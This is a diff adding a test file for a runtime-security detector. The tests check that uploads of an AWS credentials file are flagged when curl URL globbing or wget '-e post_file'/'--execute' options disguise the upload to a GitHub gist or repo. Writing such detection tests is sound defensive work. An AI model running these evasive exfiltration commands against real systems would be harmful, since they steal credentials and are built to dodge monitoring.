@@ -1,0 +1,91 @@
+/**
+ * Uploads by curl and wget written so that no URL or upload flag reads as one (red-team review): curl's URL
+ * globbing (`https://api.git{hub}.com/gists`, `api.github.[c-c]om`) names the forge only once curl expands
+ * it, and wget's `-e`/`--execute` runs `.wgetrc` commands (`-e post_file=FILE`, `-e method=PUT -e
+ * body_file=FILE`), so a credential posted to a gist that way raised nothing (a few KiB, far under the egress
+ * threshold). Checked as exported Tetragon and Falco JSON lines through the real scan path; kept out of the
+ * scenario library (the bench's workload).
+ */
+import { describe, expect, it } from 'vitest';
+import { parseScenario, type SensorForm } from '../../src/scenarios/index.js';
+import { runInlineScenario } from './harness.js';
+
+const CREDS = '/home/app/.aws/credentials';
+
+function scenarioOf(name: string, binary: string, args: string, to: string) {
+  return parseScenario(
+    {
+      name,
+      kind: 'attack',
+      title: name,
+      nodes: ['worker-1'],
+      dns: { 'api.github.com': '140.82.121.6', 'logs.example.com': '203.0.113.9' },
+      containers: [
+        {
+          name: 'etl',
+          namespace: 'data',
+          pod: 'etl-5d8c7b9f6-zxcvb',
+          image: 'registry.example.com/data/etl:1.4',
+          init: { binary: '/usr/local/bin/python3.12', args: '/app/etl.py', uid: 1000 },
+        },
+      ],
+      steps: [
+        { at: '1s', exec: { id: 'up', parent: 'etl', binary, args, uid: 1000 } },
+        { after: '3ms', read: { proc: 'up', path: CREDS, bytes: 234 } },
+        { after: '5ms', upload: { proc: 'up', to: `${to}:443`, bytes: '2KiB', over: '300ms' } },
+        { after: '10ms', exit: { proc: 'up' } },
+      ],
+      expect: 'none',
+    },
+    name,
+  );
+}
+
+async function alertsOf(name: string, binary: string, args: string, form: SensorForm, to = 'api.github.com') {
+  const { alerts } = await runInlineScenario(scenarioOf(name, binary, args, to), form);
+  return alerts.map((a) => ({
+    rule: a.rule,
+    severity: a.severity,
+    tool: a.push.tool,
+    destination: a.push.destination,
+  }));
+}
+
+const gist = (tool: string) => ({
+  rule: 'sensitive-read-then-push',
+  severity: 'high',
+  tool,
+  destination: 'api.github.com',
+});
+
+describe('uploads hidden in curl globs and wget commands', () => {
+  for (const form of ['tetragon', 'falco'] as const) {
+    it(`curl to a globbed forge URL is high (${form})`, async () => {
+      const curl = '/usr/bin/curl';
+      expect(await alertsOf('curl-glob', curl, `-sd @${CREDS} https://api.git{hub}.com/gists`, form)).toEqual([
+        gist('curl'),
+      ]);
+      expect(await alertsOf('curl-range', curl, `-sd @${CREDS} "https://api.github.[c-c]om/gists"`, form)).toEqual([
+        gist('curl'),
+      ]);
+    });
+
+    it(`wget posting a file through -e is high (${form})`, async () => {
+      const wget = '/usr/bin/wget';
+      expect(await alertsOf('wget-e', wget, `-q -e post_file=${CREDS} https://api.github.com/gists`, form)).toEqual([
+        gist('wget'),
+      ]);
+      const put = `--execute=method=PUT -e "body-file = ${CREDS}" https://api.github.com/repos/evil/x/contents/k`;
+      expect(await alertsOf('wget-execute', wget, put, form)).toEqual([gist('wget')]);
+    });
+
+    it(`a globbed download, a wget setting and an upload elsewhere are quiet (${form})`, async () => {
+      const releases = 'https://api.github.com/repos/acme/{app,cli}/releases/latest';
+      expect(await alertsOf('curl-glob-get', '/usr/bin/curl', `-fsSL ${releases}`, form)).toEqual([]);
+      const robots = '-q -e robots=off -e use_proxy=yes https://api.github.com/repos/acme/app/tarball';
+      expect(await alertsOf('wget-e-get', '/usr/bin/wget', robots, form)).toEqual([]);
+      const logs = `-e post_file=${CREDS} https://logs.example.com/in`;
+      expect(await alertsOf('wget-e-logs', '/usr/bin/wget', logs, form, 'logs.example.com')).toEqual([]);
+    });
+  }
+});
